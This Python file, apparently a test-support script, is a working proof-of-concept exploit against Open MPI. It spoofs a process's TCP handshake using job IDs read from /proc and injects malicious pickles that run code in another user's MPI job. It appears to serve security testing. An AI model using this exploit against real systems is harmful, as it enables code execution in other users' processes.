"""Another user of a machine, who has Open MPI take forged messages for those of a process.

    python tests/support/intruder.py ADDRESS PATH

The messages come to all ports of this network. They are pickles that make the file PATH.
"""

import os
import pickle
import re
import socket
import struct
import sys
from pathlib import Path

NOBODY = 65534
_N_PROCESSES, _N_COMMUNICATORS, _N_MESSAGES = 2, 8, 3
_TAGS = 1, 2, 7, 199, 301  # of messages that are read at any time, and some others
_MATCH, _SEND = 65, 1  # of ob1, and of btl/tcp


class Evil:
    """Makes a file where it is unpickled."""

    def __reduce__(self):
        return open, (sys.argv[2], "w")


def names():
    """Return the names of jobs: command lines, which all users can read, have them."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            line = Path("/proc", pid, "cmdline").read_bytes()
        except OSError:
            continue
        yield from re.findall(rb'ess_base_nspace[\0 "]+(prterun-[^@"\0]+)@0', line)


def number(name):
    """Return the number that Open MPI makes of the name of a job, for its first processes."""
    total = 0
    for letter in name:
        total = (total + letter) * 1025 % 2**32
        total ^= total >> 6
    total = total * 9 % 2**32
    total = (total ^ total >> 11) * 32769 % 2**32
    return ((total >> 16) ^ (total & 0xFFFF)) << 16 | 1


def ports():
    """Return the ports of TCP that are open in this network."""
    lines = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    return sorted({int(words[1].partition(":")[2], 16) for words in lines if words[3] == "0A"})


def forge(connection, rank):
    """Send all messages in the name of a process."""
    evil = pickle.dumps(Evil())
    for communicator in range(_N_COMMUNICATORS):
        for sequence in range(_N_MESSAGES):
            for tag in _TAGS:
                message = struct.pack("=BBHiiH", _MATCH, 0, communicator, rank, tag, sequence)
                message += evil
                connection.sendall(struct.pack("=BBHI", _MATCH, _SEND, 0, len(message)) + message)


def main(address):
    """Try all processes of all jobs at all ports, until one is taken; wait for the end of stdin."""
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    for job in {number(name) for name in names()}:
        for port in ports():
            for rank in range(_N_PROCESSES):
                with socket.socket() as connection:
                    connection.settimeout(1.0)
                    try:
                        connection.bind((address, 0))
                        connection.connect((address, port))
                        hello = struct.pack(">2I16s", job, rank, b"OPAL-TCP-BTL")
                        connection.sendall(hello)
                        answer = connection.recv(len(hello))
                        if answer[8:20] == b"OPAL-TCP-BTL":
                            # In the receiver's own name: MPI counts messages, and it sends none.
                            forge(connection, *struct.unpack("=I", answer[4:8]))
                            print("taken for process", rank, flush=True)
                            return sys.stdin.read()  # the end of the connection may end the job
                    except OSError:
                        continue
    return "nothing"


if __name__ == "__main__":
    main(sys.argv[1])
